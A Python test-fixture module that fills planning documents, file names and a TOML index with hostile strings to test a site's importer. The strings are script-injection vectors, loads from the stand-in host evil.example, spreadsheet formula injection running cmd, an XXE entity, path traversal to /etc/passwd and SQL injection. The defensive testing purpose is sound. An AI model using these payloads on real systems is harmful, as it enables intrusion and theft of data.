"""
Words that try to become script, a request, a formula or another field: what a hostile document may hold.

`SCRIPTS` cross every way out of a piece of markup with every way to run something; `OTHERS` are one of a kind. Each
that could run says alert(1), each that could call names `evil.example`, so that a test need only watch for those two.
"""

from __future__ import annotations

import json
from pathlib import Path

EVIL = "evil.example"

_WAYS_OUT = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</svg>", "</text></svg>",
    "</noscript>", "</select>", "</template>", "</option>", "</desc></g>",
)  # fmt: skip
_VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>x",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<input autofocus onfocus=alert(1)>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<link rel=stylesheet href=//{EVIL}/x.css><style>@import '//{EVIL}/y.css'</style>",
    f"<base href=http://{EVIL}/><img src=http://{EVIL}/a.png>",
)
SCRIPTS = tuple(out + vector for out in _WAYS_OUT for vector in _VECTORS)

OTHERS = (
    '" onmouseover=alert(1) autofocus onfocus=alert(1) tabindex=1 x="',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "x onload=alert(1) ",
    "`onerror=alert(1)`",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    f"//{EVIL}/x",
    f"http://{EVIL}/?q=1",
    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/'>",
    "<a href=javascript:alert(1) id=main-content>x</a>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    f"<form action=http://{EVIL}/><button autofocus>x",
    f"<object data=http://{EVIL}/x.swf></object><embed src=http://{EVIL}/x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt\t>alert(1)</sCrIpT\n>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "{{ 7|add:7 }}{% load static %}{% debug %}",
    "${alert(1)}#{alert(1)}{{constructor.constructor('alert(1)')()}}",
    "%(value)s %s {0} {title} {value!r} {self.__class__}",
    "\\1 \\g<0> $1 $&",
    "\u202e)1(trela\u2066",
    f'=HYPERLINK("http://{EVIL}/";"se")',
    f'=WEBSERVICE("http://{EVIL}/")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:stjålet\r\nEND:VEVENT",
    f"x\nATTACH:http://{EVIL}/a",
    f'x;ALTREP="http://{EVIL}/":y',
    f"</w:t></w:r><w:instrText>INCLUDEPICTURE http://{EVIL}/a.png</w:instrText>",
    "]]></t></si><f>1+1</f>",
    '#import "@preview/evil:1.0.0": * #read("/etc/passwd") $x$ @x <x> `x` *x* _x_ \\',
    f'<!DOCTYPE x [<!ENTITY y SYSTEM "http://{EVIL}/">]>&y;',
    "../../../../etc/passwd",
    "\x1b]0;title\x07\x1b[2J\x9b31m",
    "Robert'); DROP TABLE process_process;--",
    "_" * 300,
    "ord" * 2000,
)
PAYLOADS = SCRIPTS + OTHERS
_KINDS = ("meeting", "hearing", "decision", "deadline", "workshop", "other")
_STATUSES = ("planned", "cancelled", "postponed", "tentative", "held", "ongoing")


def _activity(n: int, words: tuple[str, str, str], shift: int) -> dict[str, object]:
    """One activity with hostile words in every field that takes words."""
    a, b, c = words
    day = f"2027-{n % 12 + 1:02}-{(n * 7 + shift) % 28 + 1:02}"
    return {
        "key": f"k{n}", "title": a, "kind": _KINDS[n % len(_KINDS)], "period": {"edtf": day, "text": b},
        "actors": [b, c], "responsible": [a], "actor_dates": [{"actor": c, "period": {"edtf": day, "text": a}}],
        "agenda": [a, b], "deliverables": [c, a], "place": c, "track": (a, b, "Spor")[n % 3], "method": b,
        "status": _STATUSES[n % len(_STATUSES)], "status_reason": c, "remark": b,
        "depends_on": [f"k{n - 1}"] if n else [], "replaced_by": f"k{n - 1}" if n % 7 == 3 else None,
        "quantities": [{"what": c, "min": 1, "max": 2}], "source": {"document": a, "lines": [1, 2], "sheet": b},
    }  # fmt: skip


def plan(payloads: tuple[str, ...] = PAYLOADS, *, shift: int = 0) -> dict[str, object]:
    """A frisat-plan whose every word is hostile, each payload in one activity at least; `shift` moves them about."""
    turned = payloads[shift:] + payloads[:shift]
    threes = [
        (turned[n], turned[(n + 1) % len(turned)], turned[(n + 2) % len(turned)]) for n in range(0, len(turned), 3)
    ]
    rows = [_activity(n, words, shift) for n, words in enumerate(threes)]
    return {
        "format": "frisat-plan/1",
        "kind": "plan",
        "title": turned[1],
        "organisation": turned[12],
        "case_no": turned[23],
        "activities": rows,
        "footnotes": [
            {"mark": p[:20] or "*", "text": p, "activities": [f"k{n % len(rows)}"]} for n, p in enumerate(turned)
        ],
        "stakeholders": list(turned),
        "items": [
            {"no": p[:12], "title": p, "text": p, "presenters": [{"name": p, "role": p}], "outcome": p} for p in turned
        ],
        "text": list(turned),
        turned[3]: turned[4],
    }


def text() -> str:
    """The same words as a text document, so that its lines stand beside each activity."""
    one_line = (" ".join(p.split()) for p in PAYLOADS)
    rows = (f"{n % 28 + 1}. marts 2027: Møde i udvalget {said}" for n, said in enumerate(one_line))
    return "Tidsplan\n\n" + "\n\n".join(rows) + "\n"


def _toml(words: str) -> str:
    return json.dumps(words)


def folder(at: Path) -> Path:
    """A folder that the site imports: two versions of the plan, and the lines of a paper, under hostile names."""
    names = {n: f"{stem}{n}" for n, stem in (("1.json", "<img src=x onerror=alert(1)>"), ("2.json", "x' y\" & "))}
    paper = "<svg onload=alert(1)>.txt"
    for shift, name in enumerate(names.values()):
        (at / name).write_text(json.dumps(plan(shift=shift), ensure_ascii=False))
    (at / paper).write_text(text())
    said = [
        "[[process]]", 'slug = "fjendtlig"', f"name = {_toml(PAYLOADS[0])}", f"organisation = {_toml(PAYLOADS[11])}",
        f"case_no = {_toml(PAYLOADS[22][:40])}", f"summary = {_toml(PAYLOADS[33])}",
        *(
            line
            for n, (file, day) in enumerate(zip(names.values(), ("2027-03-03", "2027-04-20"), strict=True))
            for line in (
                "[[process.version]]", f"file = {_toml(file)}", f"name = {_toml(PAYLOADS[n + 1])}",
                f"valid_from = {day}", f"words = {_toml(PAYLOADS[n + 5])}", f"reason = {_toml(PAYLOADS[n + 7])}",
            )
        ),
        "[[process.paper]]", f"file = {_toml(paper)}", f"name = {_toml(PAYLOADS[9])}", 'dated = "2027-04-26"',
        f"words = {_toml(PAYLOADS[10])}",
    ]  # fmt: skip
    (at / "processes.toml").write_text("\n".join(said))
    return at
